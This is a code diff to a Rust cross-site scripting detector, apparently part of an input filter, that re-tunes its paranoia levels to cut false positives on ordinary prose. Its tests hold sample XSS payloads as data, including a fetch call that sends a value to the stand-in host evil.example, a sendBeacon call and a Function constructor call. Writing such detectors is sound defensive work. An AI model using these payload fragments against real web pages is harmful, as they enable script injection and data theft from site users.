@@ -1,13 +1,15 @@
 //! Cross-site scripting fragments for paranoia levels 2 to 4, rarer in real input the lower the
 //! level: 2 = event attributes and script URLs anywhere, elements that carry active content or
-//! forms, attributes that load URLs, HTML comment markers, string break-outs into an assignment,
-//! ES module imports; 3 = anything shaped like a tag, any `on...=` attribute, any script scheme;
-//! 4 = markup residue (`<`, `>`, backticks, a quote closing into code).
+//! forms, attributes that load URLs, comment openers (`<!--`), string break-outs into an
+//! assignment, ES module imports, calls of fetching or compiling functions; 3 = anything shaped
+//! like a tag, any `on...=` attribute, any script scheme, `-->`; 4 = markup residue (`<`, `>`,
+//! backticks, a quote closing into code).
 
 use std::sync::LazyLock;
 
 use aho_corasick::AhoCorasick;
 
+use super::script::tagged_template;
 use super::{data_html_at, is_event_name, literals, lower_at, scheme_at, starts_with_ci};
 
 /// Script functions that print, fetch, post or compile, called right away (level 2; the
@@ -23,8 +25,6 @@ static CALLS: LazyLock<AhoCorasick> = LazyLock::new(|| {
         "eventsource",
         "postmessage",
         "importscripts",
-        "write",
-        "writeln",
     ])
 });
 
@@ -104,7 +104,7 @@ fn level2(b: &[u8]) -> bool {
     event_attribute(b, true)
         || script_url_anywhere(b, true)
         || (b.contains(&b'<') && tags(b).any(|t| active_tag(&t)))
-        || comment_marker(b)
+        || comment_open(b)
         || string_breakout_assignment(b)
         || module_import(b)
         || script_call(b)
@@ -116,12 +116,21 @@ fn script_call(b: &[u8]) -> bool {
     CALLS.find_iter(b).any(|m| {
         let (s, e) = (m.start(), m.end());
         (s == 0 || !(b[s - 1].is_ascii_alphanumeric() || matches!(b[s - 1], b'_' | b'$')))
-            && matches!(b.get(e), Some(b'(' | b'`'))
+            && match b.get(e) {
+                // `function(s)` in prose: the constructor wants its source as a string
+                Some(b'(') if m.end() - m.start() == 8 => {
+                    matches!(b.get(e + 1), Some(b'"' | b'\'' | b'`'))
+                }
+                Some(b'(') => true,
+                Some(b'`') => tagged_template(b, e),
+                _ => false,
+            }
     })
 }
 
 fn level3(b: &[u8]) -> bool {
     (b.contains(&b'<') && (tags(b).next().is_some() || markup_declaration(b)))
+        || finder!(b"-->").find(b).is_some()
         || event_attribute(b, false)
         || script_url_anywhere(b, false)
 }
@@ -262,12 +271,11 @@ fn script_url_anywhere(b: &[u8], strict: bool) -> bool {
     })
 }
 
-/// `<!--`, `-->`, `<![CDATA[`: markers that open or close an HTML comment or a CDATA section,
-/// used to hide the rest of a page or to break out of one.
-fn comment_marker(b: &[u8]) -> bool {
-    finder!(b"-->").find(b).is_some()
-        || finder!(b"<!--").find(b).is_some()
-        || (0..b.len()).any(|i| b[i] == b'<' && starts_with_ci(b, i, b"<![cdata["))
+/// `<!--`, `<![CDATA[`: markers that open an HTML comment or a CDATA section, used to hide the
+/// rest of a page. (The closing `-->` is also an arrow in prose: level 3.)
+fn comment_open(b: &[u8]) -> bool {
+    memchr::memchr_iter(b'<', b)
+        .any(|i| starts_with_ci(b, i, b"<!--") || starts_with_ci(b, i, b"<![cdata["))
 }
 
 /// `<!DOCTYPE`, `<!ENTITY`, `<%=`: markup declarations and server template tags (`<?xml`
@@ -284,7 +292,7 @@ fn markup_declaration(b: &[u8]) -> bool {
 /// assignment to a property or after the `in` operator.
 fn string_breakout_assignment(b: &[u8]) -> bool {
     b.iter().enumerate().any(|(q, c)| {
-        if !matches!(c, b'"' | b'\'' | b'`') {
+        if !matches!(c, b'"' | b'\'') {
             return false;
         }
         let rest = &b[q + 1..];
@@ -303,6 +311,10 @@ fn string_breakout_assignment(b: &[u8]) -> bool {
             j += 1;
         }
         let ident = &rest[..j];
+        // `a.b`, not `low..=high` or `etc.=`
+        if finder!(b"..").find(ident).is_some() || ident.trim_ascii_end().ends_with(b".") {
+            return false;
+        }
         let assigned = rest.get(j) == Some(&b'=') && rest.get(j + 1) != Some(&b'=');
         let shaped = !ident.is_empty()
             && ident[0].is_ascii_alphabetic()
@@ -365,7 +377,6 @@ mod tests {
             "<img src=\"test\"",
             "<td background=x>",
             "<input pattern=\"^a regex$\">",
-            "-->",
             "<!-- hidden",
             "\"in valueOf=",
             "'  infoo.bar=",
@@ -375,6 +386,7 @@ mod tests {
             "\"-print()-\"",
             "fetch('//evil.example/?c='+x)",
             "navigator.sendBeacon(u,d)",
+            "Function('alert(1)')()",
         ] {
             assert_eq!(level(a), Some(2), "{a}");
         }
@@ -384,6 +396,7 @@ mod tests {
     fn level_3_and_4_fragments() {
         for (v, l) in [
             ("<b>bold</b>", 3),
+            ("-->", 3),
             ("<a href=\"test\"", 3),
             ("<svg></svg>", 3),
             ("Hello <strong>world</strong>", 3),
@@ -411,6 +424,10 @@ mod tests {
             "{\"name\": \"Bob\", \"tags\": [\"a\", \"b\"]}",
             "https://example.com/path?x=1&y=2#frag",
             "A -> B -> C",
+            "step 1 --> step 2",
+            "compile your function(s) and start",
+            "`low..=high` is also valid",
+            "implements `io::Write` and `WebSocket`",
             "x--y",
             "I said \"in a minute\" = later",
             "We import goods from China",
